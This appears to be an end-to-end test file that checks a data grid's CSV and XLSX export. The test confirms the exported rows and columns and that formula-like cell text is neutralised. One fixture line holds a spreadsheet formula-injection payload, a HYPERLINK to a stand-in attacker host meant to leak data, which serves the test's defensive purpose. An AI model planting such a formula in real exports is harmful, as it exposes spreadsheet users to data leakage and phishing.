// Exporting the current view from the dialog: the browser downloads the file, and the
// file holds exactly the rows and columns the user chose, in the view's order, with
// formula-like text neutralised. Checked for CSV and for XLSX (read back with exceljs).
import { dirname, join } from 'node:path';
import ExcelJS from 'exceljs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Company, companies, readExportedCsv, writeCompaniesCsv } from './fixtures';
import { columnId, expectFirstRows, expectRowCount, header, renderedColumn } from './grid';
import { cli, type E2eApp, startE2eApp } from './harness';

const FORMULA = '=HYPERLINK("http://evil.example/?leak","Click me")';
const DATA: Company[] = companies(60).map((c, i) => (i === 3 ? { ...c, name: FORMULA, city: 'Oslo' } : c));
/** The view the tests export: search "oslo", sorted by Employees ascending. */
const VIEW = DATA.filter((c) => c.city === 'Oslo').sort((a, b) => a.employees - b.employees);

/** Opens Export, keeps the current view, ticks exactly `columns`, picks the format, returns the download. */
async function exportView(page: Page, columns: string[], format: 'csv' | 'xlsx', saveTo: string) {
  await page.getByTestId('toolbar-export').click();
  const dialog = page.getByTestId('export-dialog');
  await dialog.waitFor();
  expect(await page.getByTestId('export-scope-view').isChecked()).toBe(true);
  expect(await dialog.textContent()).toContain(`Current view (sorted & filtered, ${VIEW.length} rows)`);
  await page.getByTestId('export-columns-none').click();
  for (const name of columns) await dialog.getByLabel(name, { exact: true }).check();
  await page.getByTestId(`export-format-${format}`).check();
  expect(await page.getByTestId('export-neutralise').isChecked()).toBe(true);

  const download = page.waitForEvent('download', { timeout: 30_000 });
  await page.getByTestId('export-start').click();
  const file = await download;
  expect(file.suggestedFilename()).toBe(`Companies.${format}`);
  await file.saveAs(saveTo);
  await page.getByTestId('export-done').waitFor();
  expect(await page.getByTestId('export-done').textContent()).toContain(`${VIEW.length} rows written`);
  await page.getByTestId('export-close').click();
  await dialog.waitFor({ state: 'detached' });
}

describe('export', () => {
  let app: E2eApp;

  beforeAll(async () => {
    app = await startE2eApp((workbook) => {
      const file = join(dirname(workbook), 'companies.csv');
      writeCompaniesCsv(file, DATA);
      cli(workbook, ['import', file, '--table', 'Companies']);
    });
  });
  afterAll(async () => {
    await app?.close();
  });

  it('sets up the view to export: a search and a sort', async () => {
    const { page } = app;
    await expectRowCount(page, DATA.length);
    await page.getByTestId('search-input').fill('oslo');
    await expectRowCount(page, VIEW.length);
    await header(page, 'Employees').locator('.header-name').click();
    const name = await columnId(page, 'Name');
    await expectFirstRows(
      page,
      name,
      VIEW.map((c) => c.name),
    );
    expect(await renderedColumn(page, name)).toContain(FORMULA);
  });

  it('CSV: the downloaded file holds the filtered rows, chosen columns, formulas neutralised', async () => {
    const path = join(app.dir, 'view.csv');
    await exportView(app.page, ['Name', 'Employees', 'City'], 'csv', path);
    const [head, ...rows] = readExportedCsv(path);
    expect(head).toEqual(['Name', 'Employees', 'City']);
    expect(rows).toEqual(
      VIEW.map((c) => [c.name === FORMULA ? `'${FORMULA}` : c.name, String(c.employees), c.city]),
    );
    expect(rows.map((r) => r[0])).toContain(`'${FORMULA}`);
  });

  it('XLSX: the same rows as typed cells (numbers, real dates), formulas neutralised', async () => {
    const path = join(app.dir, 'view.xlsx');
    await exportView(app.page, ['Name', 'Employees', 'Founded', 'City'], 'xlsx', path);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(path);
    expect(book.worksheets).toHaveLength(1);
    const sheet = book.worksheets[0] as ExcelJS.Worksheet;
    const values: unknown[][] = [];
    sheet.eachRow((row) => {
      values.push((row.values as unknown[]).slice(1));
    });
    const [head, ...rows] = values;
    expect(head).toEqual(['Name', 'Employees', 'Founded', 'City']);
    expect(rows).toHaveLength(VIEW.length);
    rows.forEach((row, i) => {
      const c = VIEW[i] as Company;
      expect(row[0]).toBe(c.name === FORMULA ? `'${FORMULA}` : c.name);
      expect(row[1]).toBe(c.employees);
      expect(row[2]).toBeInstanceOf(Date);
      expect((row[2] as Date).toISOString().slice(0, 10)).toBe(c.founded);
      expect(row[3]).toBe(c.city);
    });
    // A string cell, never a formula cell.
    const formulaRow = VIEW.findIndex((c) => c.name === FORMULA) + 2;
    expect(sheet.getCell(formulaRow, 1).type).toBe(ExcelJS.ValueType.String);
  });
});
